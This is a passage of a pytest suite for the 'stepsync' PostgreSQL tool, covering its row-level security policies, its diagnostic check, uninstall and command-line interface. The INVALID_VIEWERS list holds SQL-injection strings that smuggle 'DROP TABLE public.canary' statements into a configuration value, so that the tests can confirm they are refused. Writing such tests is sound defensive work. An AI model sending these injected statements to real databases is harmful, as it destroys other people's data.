    # The ranking runs as the owner: called directly it returns no id of a step the caller may not see either.
    ranked = api(CAROL, "SELECT id FROM stepsync._search_ranked(%s, 'private', NULL, NULL, NULL, NULL)", (ALICE,))
    assert ranked.rows == []
    assert api(ANON, "SELECT id FROM stepsync._search_ranked(%s, 'team', NULL, NULL, NULL, NULL)", (ALICE,)).rows == []

    hidden, seen = step_id(db, "Alice private step"), step_id(db, "Acme public step")
    assert api.refused(CAROL, "SELECT stepsync.fork_step(%s, %s)", (hidden, ALICE)).sqlstate == "P0002"
    assert api.refused(CAROL, "SELECT stepsync.fork_step(%s, %s)", (hidden, CAROL)).sqlstate == "P0002"
    assert api.refused(CAROL, "SELECT stepsync.fork_step(%s, %s)", (seen, ALICE)).sqlstate == "42501"
    assert db.rows("SELECT s::text FROM public.step_library AS s ORDER BY 1") == before
    # what the rule allows still works: her own fork of a step she sees
    fork = api(CAROL, "SELECT stepsync.fork_step(%s, %s)", (seen, CAROL)).rows[0][0]
    assert db.rows("SELECT created_by::text, visibility, forked_from_id::text FROM public.step_library WHERE id = %s",
                   (fork,)) == [(CAROL, "private", str(seen))]


def test_synced_steps_stay_read_only_under_the_rule(ruled, api):
    db = ruled
    db.conn.execute("GRANT UPDATE ON public.step_library TO authenticated")     # an ORM's grants
    synced = step_id(db, "Acme team step")
    before = db.rows("SELECT s::text FROM public.step_library AS s ORDER BY 1")
    error = api.refused(ALICE, "UPDATE public.step_library SET title = 'Mine now' WHERE id = %s", (synced,))
    assert error.sqlstate == "42501"
    assert "fork" in (error.diag.message_hint or "").lower(), error.diag.message_hint
    assert db.rows("SELECT s::text FROM public.step_library AS s ORDER BY 1") == before


def test_deleting_a_synced_step_is_refused_under_the_rule_as_without_it(ruled, api):
    """§6.1: a DELETE of an active synced row fails with 42501 and a hint to fork, for the user who sees it
    too (not a silent DELETE 0 because the rule's delete policy hides the row from the guard)."""
    db = ruled
    db.conn.execute("GRANT DELETE ON public.step_library TO authenticated")     # an ORM's grants
    synced = step_id(db, "Acme team step")
    before = db.rows("SELECT s::text FROM public.step_library AS s ORDER BY 1")
    error = api.refused(ALICE, "DELETE FROM public.step_library WHERE id = %s", (synced,))
    assert error.sqlstate == "42501"
    assert "fork" in (error.diag.message_hint or "").lower(), error.diag.message_hint
    assert db.rows("SELECT s::text FROM public.step_library AS s ORDER BY 1") == before


@pytest.mark.parametrize("forced", [False, True], ids=["enabled", "forced"])
def test_the_owner_still_sees_and_counts_everything(ruled, forced):
    db = ruled
    if forced:
        db.conn.execute("ALTER TABLE public.step_library FORCE ROW LEVEL SECURITY")
    with as_owner(db) as owner:
        assert {r[0] for r in owner.execute("SELECT title FROM public.step_library")} == EVERY_STEP
        assert {r[0] for r in owner.execute("SELECT title FROM public.step_library_entries")} == EVERY_STEP
        assert owner.execute("UPDATE public.step_library SET usage_count = usage_count + 1").rowcount == len(EVERY_STEP)


def test_a_client_cannot_change_the_rule(ruled, api):
    db = ruled
    setting = db.rows("SELECT r::text FROM stepsync.row_security AS r")
    for sql in ["SELECT stepsync.disable_row_security()", "SELECT stepsync.enable_row_security('NULL::uuid')",
                "SELECT stepsync.restore_policies()", "UPDATE stepsync.row_security SET viewer = 'NULL::uuid'",
                "DROP POLICY stepsync_viewer_select ON public.step_library"]:
        assert api.refused(CAROL, sql).sqlstate == "42501", sql
    assert db.rows("SELECT r::text FROM stepsync.row_security AS r") == setting
    assert titles(api(CAROL, "SELECT title FROM public.step_library")) == MAY_SEE[CAROL]


@pytest.mark.parametrize("app_library", ["off", "own policies"])
def test_disable_row_security_puts_back_what_was_there(db, api, app_library):
    set_app_rls(db, "enabled", ("trees", "users", "accounts"))
    if app_library == "own policies":
        set_app_rls(db, "enabled", ("step_library",))
        db.conn.execute(APP_LIBRARY_SQL)
    seed_library(db)
    flags, app_policies, sync_policies = rls_flags(db), policies(db, ours=False), policies(db, ours=True)
    seen_before = {user: titles(api(user, "SELECT title FROM public.step_library")) for user in MAY_SEE}

    enable_rule(db)
    assert rls_flags(db)["step_library"] == (True, False)
    assert {name for _, name in policies(db, ours=True)} == {
        "stepsync_sync", "stepsync_viewer", "stepsync_viewer_select", "stepsync_viewer_insert",
        "stepsync_viewer_update", "stepsync_viewer_delete"}
    with as_owner(db) as owner:
        assert owner.execute("SELECT stepsync.disable_row_security()").fetchone() == (4,)
    assert rls_flags(db) == flags
    assert policies(db, ours=False) == app_policies
    assert policies(db, ours=True) == sync_policies
    assert db.value("SELECT viewer FROM stepsync.row_security") is None
    assert {user: titles(api(user, "SELECT title FROM public.step_library")) for user in MAY_SEE} == seen_before
    assert findings(db) == []


# --- 3. VIEWER ---------------------------------------------------------------------------------------------------

INVALID_VIEWERS = {
    "null": None,
    "empty": "",
    "blank": "  \n ",
    "text": "current_setting('request.jwt.claims', true)::json->>'sub'",
    "integer": "42",
    "syntax error": "((",
    "unknown schema": "nosuch.uid()",
    "two statements": "NULL::uuid); DROP TABLE public.canary; SELECT (1",
    "three whole statements": "NULL::uuid) WHERE false) AS probe; DROP TABLE public.canary;"
                              " SELECT NULL::text FROM (SELECT (NULL::uuid",
    "a statement after a comment": "NULL::uuid -- \n); DROP TABLE public.canary; SELECT (NULL::uuid",
    "a view of its own": "NULL::uuid AS viewer; DROP TABLE public.canary;"
                         " CREATE TEMPORARY VIEW v AS SELECT (NULL::uuid",
}


@pytest.mark.parametrize("viewer", list(INVALID_VIEWERS.values()), ids=list(INVALID_VIEWERS))
def test_an_invalid_viewer_is_refused_and_changes_nothing(ruled, api, viewer):
    db = ruled
    db.conn.execute(f'CREATE TABLE public.canary (x int); ALTER TABLE public.canary OWNER TO "{OWNER}"')
    setting = db.rows("SELECT r::text FROM stepsync.row_security AS r")
    state = (policies(db), rls_flags(db))
    with as_owner(db) as owner, pytest.raises(psycopg.Error) as info:
        owner.execute("SELECT stepsync.enable_row_security(%s)", (viewer,))
    assert info.value.sqlstate == "22023", info.value
    assert db.value("SELECT to_regclass('public.canary') IS NOT NULL") is True
    assert db.rows("SELECT r::text FROM stepsync.row_security AS r") == setting
    assert (policies(db), rls_flags(db)) == state
    assert titles(api(CAROL, "SELECT title FROM public.step_library")) == MAY_SEE[CAROL]


# --- 4. check_row_security ---------------------------------------------------------------------------------------

def test_check_row_security_finds_nothing_on_a_healthy_install(db):
    assert findings(db) == []
    set_app_rls(db, "forced")
    db.conn.execute(APP_LIBRARY_SQL)
    assert findings(db) == []
    enable_rule(db)
    assert findings(db) == []


def test_check_row_security_reports_a_forced_table_the_sync_cannot_pass(db):
    set_app_rls(db, "forced")
    with as_owner(db) as owner:
        owner.execute("DROP POLICY stepsync_sync ON public.trees")
    assert findings(db) == [("policy_changed", "policy stepsync_sync on public.trees"),
                            ("sync_blocked", "table public.trees")]
    [fix] = db.rows("SELECT fix FROM stepsync.check_row_security() WHERE kind = 'sync_blocked'")
    assert "stepsync install" in fix[0]
    db.conn.execute("ALTER TABLE public.trees NO FORCE ROW LEVEL SECURITY")     # the owner is not bound then
    assert findings(db) == [("policy_changed", "policy stepsync_sync on public.trees")]


def test_check_row_security_reports_a_restrictive_policy_that_binds_the_sync(db):
    set_app_rls(db, "forced")
    db.conn.execute("CREATE POLICY app_tenant ON public.trees AS RESTRICTIVE FOR ALL TO PUBLIC"
                    " USING (author_id = auth.uid())")
    assert findings(db) == [("sync_blocked", "policy app_tenant on public.trees")]
    db.conn.execute("ALTER POLICY app_tenant ON public.trees TO authenticated")
    assert findings(db) == []


def test_check_row_security_reports_a_view_that_bypasses_the_rule(ruled, api):
    db = ruled
    with as_owner(db) as owner:
        owner.execute("CREATE VIEW public.app_steps AS SELECT id, title FROM public.step_library")
        owner.execute("GRANT SELECT ON public.app_steps TO authenticated")
    assert titles(api(CAROL, "SELECT title FROM public.app_steps")) == EVERY_STEP       # the leak it reports
    assert findings(db) == [("view_bypasses", "view public.app_steps")]
    db.conn.execute("ALTER VIEW public.app_steps SET (security_invoker = true)")
    assert findings(db) == []
    assert titles(api(CAROL, "SELECT title FROM public.app_steps")) == MAY_SEE[CAROL]


def test_check_row_security_reports_a_policy_of_stepsyncs_changed_dropped_or_added(ruled):
    db = ruled
    db.conn.execute("ALTER POLICY stepsync_viewer_select ON public.step_library USING (true)")
    assert findings(db) == [("policy_changed", "policy stepsync_viewer_select on public.step_library")]
    db.conn.execute("DROP POLICY stepsync_viewer_insert ON public.step_library")
    assert findings(db) == [("policy_changed", "policy stepsync_viewer_insert on public.step_library"),
                            ("policy_changed", "policy stepsync_viewer_select on public.step_library")]
    with as_owner(db) as owner:
        owner.execute("SELECT stepsync.restore_policies()")
    assert findings(db) == []
    db.conn.execute("CREATE POLICY stepsync_extra ON public.accounts FOR SELECT USING (true)")
    assert findings(db) == [("policy_changed", "policy stepsync_extra on public.accounts")]


# --- 5. uninstall ------------------------------------------------------------------------------------------------

def cli(url: str, *args: str, cwd: Path, expect: int | None = 0) -> subprocess.CompletedProcess:
    """`python -m stepsync.cli` in a subprocess, from a folder that is not the checkout."""
    env = {k: v for k, v in os.environ.items() if k not in ("STEPSYNC_DATABASE_URL", "STEPSYNC_DEBUG")}
    result = subprocess.run([sys.executable, "-m", "stepsync.cli", "--database-url", url, *args], cwd=cwd, env=env,
                            capture_output=True, text=True, timeout=600)
    assert "Traceback" not in result.stdout + result.stderr, result.stdout + result.stderr
    if expect is not None:
        assert result.returncode == expect, f"stepsync {' '.join(args)} exited {result.returncode}:\n{result.stderr}"
    return result


@pytest.mark.parametrize("how", ["stepsync uninstall", "alembic downgrade stepsync_0004"])
@pytest.mark.parametrize("app_library", ["off", "own policies"])
def test_uninstall_removes_stepsyncs_policies_and_nothing_of_the_applications(db, tmp_path, how, app_library):
    set_app_rls(db, "forced", ("trees", "users", "accounts"))
    if app_library == "own policies":
        set_app_rls(db, "enabled", ("step_library",))
        db.conn.execute(APP_LIBRARY_SQL)
    flags, app_policies = rls_flags(db), policies(db, ours=False)
    enable_rule(db)
    assert len(policies(db, ours=True)) == 9

    if how == "stepsync uninstall":
        cli(db.url, "uninstall", cwd=tmp_path)
    else:
        database.downgrade(db.url, "stepsync_0004")
        assert db.value("SELECT to_regclass('stepsync.row_security')") is None
    assert policies(db, ours=True) == {}
    assert policies(db, ours=False) == app_policies
    assert rls_flags(db) == flags


# --- 6. the command line -----------------------------------------------------------------------------------------

def doctor_findings(url: str, cwd: Path) -> tuple[int, list[dict]]:
    result = cli(url, "doctor", "--json", cwd=cwd, expect=None)
    return result.returncode, [f for f in json.loads(result.stdout)["findings"] if f["check"] == "row_security"]


def test_install_row_security_keep_repair_and_remove_from_the_command_line(db, api, tmp_path):
    set_app_rls(db, "enabled", ("trees", "users", "accounts"))
    seed_library(db)
    everything = titles(api(CAROL, "SELECT title FROM public.step_library"))
    assert everything == EVERY_STEP                          # no row-level security on step_library yet

    before = (policies(db), rls_flags(db), db.rows("SELECT r::text FROM stepsync.row_security AS r"))
    refused = cli(db.url, "install", "--row-security", "42", cwd=tmp_path, expect=1)
    assert len(refused.stderr.splitlines()) == 1 and "uuid" in refused.stderr, refused.stderr
    assert (policies(db), rls_flags(db), db.rows("SELECT r::text FROM stepsync.row_security AS r")) == before

    cli(db.url, "install", "--row-security", POSTGREST_VIEWER, cwd=tmp_path)
    assert db.value("SELECT viewer FROM stepsync.row_security") == POSTGREST_VIEWER
    assert titles(api(CAROL, "SELECT title FROM public.step_library")) == MAY_SEE[CAROL]
    status = json.loads(cli(db.url, "status", "--json", cwd=tmp_path).stdout)["row_security"]
    assert status["viewer"] == POSTGREST_VIEWER
    assert (status["tables"]["step_library"]["enabled"], status["tables"]["trees"]["enabled"]) == (True, True)
    assert "row-level security" in cli(db.url, "status", cwd=tmp_path).stdout
    assert doctor_findings(db.url, tmp_path)[1] == []

    db.conn.execute("ALTER POLICY stepsync_viewer_select ON public.step_library USING (true)")
    assert titles(api(CAROL, "SELECT title FROM public.step_library")) == everything
    code, found = doctor_findings(db.url, tmp_path)
    assert code == 1 and [f["object"] for f in found] == ["policy stepsync_viewer_select on public.step_library"]
    cli(db.url, "install", cwd=tmp_path)                      # keeps the VIEWER, makes the policy again
    assert db.value("SELECT viewer FROM stepsync.row_security") == POSTGREST_VIEWER
    assert findings(db) == []
    assert titles(api(CAROL, "SELECT title FROM public.step_library")) == MAY_SEE[CAROL]

    cli(db.url, "install", "--no-row-security", cwd=tmp_path)
    assert db.value("SELECT viewer FROM stepsync.row_security") is None
    assert {name for _, name in policies(db, ours=True)} == {"stepsync_sync"}
    assert rls_flags(db)["step_library"] == (False, False)
    assert titles(api(CAROL, "SELECT title FROM public.step_library")) == everything


def test_sql_script_with_row_security_enables_it(server, tmp_path):
    """`stepsync sql --row-security VIEWER`, applied with psql as a DBA would, installs and enforces the rule."""
    result = subprocess.run([sys.executable, "-m", "stepsync.cli", "sql", "--row-security", POSTGREST_VIEWER],
                            cwd=tmp_path, capture_output=True, text=True, timeout=120,
                            env={k: v for k, v in os.environ.items() if k != "STEPSYNC_DATABASE_URL"})
    assert result.returncode == 0, result.stderr
    quoted = POSTGREST_VIEWER.replace("'", "''")
    statements = [line for line in result.stdout.splitlines() if line.strip() and not line.startswith("--")]
    assert f"SELECT stepsync.enable_row_security('{quoted}');" in statements[-3:], statements[-3:]

    psql = find_bin_dir() / "psql"
    if not psql.exists():
        pytest.skip(f"no psql in {psql.parent}")
    script = tmp_path / "stepsync.sql"
    script.write_text(result.stdout, encoding="utf-8")
    name = server.new_name("rls_sql")
    server.create_database(name)
    db = Db(server, name)
    try:
        database.migrate(db.url, "stepsync_0001")           # the application's tables, without stepsync
        db.conn.execute("DROP TABLE public.stepsync_version")
        applied = subprocess.run([str(psql), "-X", "-q", "-v", "ON_ERROR_STOP=1", "-d", db.url,
                                              "-f", str(script)], capture_output=True, text=True, timeout=600)
        assert applied.returncode == 0, applied.stderr
        assert db.value("SELECT viewer FROM stepsync.row_security") == POSTGREST_VIEWER
        assert {name for _, name in policies(db, ours=True)} >= {"stepsync_sync", "stepsync_viewer_select"}
        assert rls_flags(db)["step_library"] == (True, False)
        assert findings(db) == []
    finally:
        db.close()
        server.drop_database(name)
